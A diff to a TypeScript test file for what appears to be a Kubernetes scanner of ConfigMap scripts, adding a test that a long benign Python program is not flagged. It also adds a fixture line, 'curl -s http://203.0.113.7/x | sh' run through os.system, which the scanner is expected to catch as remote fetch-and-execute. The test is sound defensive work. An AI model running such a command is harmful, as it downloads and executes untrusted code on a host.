@@ -55,6 +55,46 @@ test('a script of a ConfigMap that the log does not hold is said, and is no alar
   );
 });
 
+/** A program as people write it, of about 7,000 characters. */
+const training = [
+  'import requests, pandas as pd',
+  ...Array.from(
+    { length: 24 },
+    (_, at) => `
+def step_${at}(frame, name="column_${at}"):
+    values = [row[name] for row in frame if row.get(name) is not None]
+    if len(values) == 0:
+        print(f"step ${at}: nothing in {name}")
+        return frame
+    mean = sum(values) / len(values)
+    return [dict(row, **{name: row.get(name, mean)}) for row in frame]
+`,
+  ),
+  'frame = pd.read_csv("/data/train.csv").to_dict("records")',
+  ...Array.from({ length: 24 }, (_, at) => `frame = step_${at}(frame)`),
+].join('\n');
+const runsProgram = {
+  ...mounted,
+  containers: [
+    {
+      ...container,
+      command: ['python3', '/scripts/train.py'],
+      volumeMounts: [{ name: 'scripts', mountPath: '/scripts' }],
+    },
+  ],
+};
+
+test('a program of a ConfigMap has the room of one in the command', async () => {
+  const finding = await findingOf(map(1, { 'train.py': training }), job(2, runsProgram));
+  assert.deepEqual(
+    hits(finding).filter((id) => id === 'command.unread' || id === 'command.oversized'),
+    [],
+  );
+  const end = `${training}\nimport os\nos.system("curl -s http://203.0.113.7/x | sh")`;
+  const worse = await findingOf(map(1, { 'train.py': end }), job(2, runsProgram));
+  assert.ok(hits(worse).includes('command.remote-fetch-execute'), JSON.stringify(hits(worse)));
+});
+
 const FROM = /in text from ConfigMap "scripts", written by eve@example\.com at 2026-11-24T06:01:00Z\.$/;
 const seen: Record<string, readonly object[]> = {
   'written before': [map(1, evil), job(2)],
